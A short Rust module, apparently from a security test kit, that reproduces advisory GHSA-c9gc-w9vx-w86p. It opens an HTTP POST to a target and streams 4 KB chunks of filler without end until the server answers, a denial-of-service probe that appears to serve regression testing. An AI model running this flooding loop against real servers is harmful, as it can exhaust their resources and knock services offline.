//! A body that is sent without end to a server that does not read it (GHSA-c9gc-w9vx-w86p).

use attack_kit::Tried;
use attack_kit::http::Attempt;
use attack_kit::wasip2::http::outgoing_handler;
use attack_kit::wasip2::http::types::Method;

pub fn attack(target: &str) -> Tried {
    let (request, options) = Attempt { method: Method::Post, ..Attempt::get(target) }.request()?;
    let outgoing = request.body().expect("a body");
    let future = outgoing_handler::handle(request, Some(options)).map_err(attack_kit::name)?;
    let stream = outgoing.write().expect("a stream");
    let piece = vec![b'x'; 4096];
    loop {
        stream.blocking_write_and_flush(&piece).map_err(attack_kit::name)?;
        if future.get().is_some() {
            return Ok("answered".to_owned());
        }
    }
}
